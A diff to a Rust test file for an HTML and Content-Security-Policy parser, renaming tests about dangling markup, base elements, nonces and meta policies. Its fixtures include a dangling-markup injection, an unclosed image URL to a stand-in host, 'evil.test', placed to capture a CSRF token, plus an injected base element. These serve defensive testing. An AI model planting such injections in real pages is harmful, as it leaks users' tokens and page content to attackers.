@@ -22,7 +22,7 @@ fn admitted(policy: &'static str, html: &str) -> Vec<String> {
 }
 
 #[test]
-fn an_injected_image_takes_nothing_along() {
+fn dangling_markup_leaks_no_page_content() {
     let html =
         "<p>hello <img src='http://evil.test/log?\n<form><input name=csrf value=TOKEN></form><a title='x'>";
     assert!(paths(html).is_empty(), "dangling markup");
@@ -36,7 +36,7 @@ fn an_injected_image_takes_nothing_along() {
 }
 
 #[test]
-fn text_is_no_markup() {
+fn text_is_not_read_as_markup() {
     for html in [
         "<textarea><img src=no.png></textarea>",
         "<title><img src=no.png></title>",
@@ -57,7 +57,7 @@ fn text_is_no_markup() {
 }
 
 #[test]
-fn policies_in_markup_count_for_what_follows() {
+fn policies_in_markup_apply_to_later_elements() {
     let html = "<meta http-equiv=Content-Security-Policy content=\"img-src 'self'\">
         <img src=own.png><img src=//b.test/other.png>";
     assert_eq!(admitted("script-src 'none'", html), ["own.png"]);
@@ -67,7 +67,7 @@ fn policies_in_markup_count_for_what_follows() {
 }
 
 #[test]
-fn a_base_needs_leave() {
+fn a_base_element_must_be_permitted_by_the_policy() {
     let html = "<base href=http://evil.test/><img src=1.png>";
     assert_eq!(paths(html), ["http://evil.test/1.png"]);
     assert_eq!(admitted("base-uri 'none'", html), ["1.png"]);
@@ -79,7 +79,7 @@ fn a_base_needs_leave() {
 }
 
 #[test]
-fn nonces_are_their_elements_own() {
+fn a_nonce_applies_to_its_own_element() {
     let policy = "script-src 'nonce-abc'; style-src 'nonce-abc'";
     let html =
         "<script nonce=abc src=1.js></script><script src=no.js></script><script nonce=x src=no.js></script>
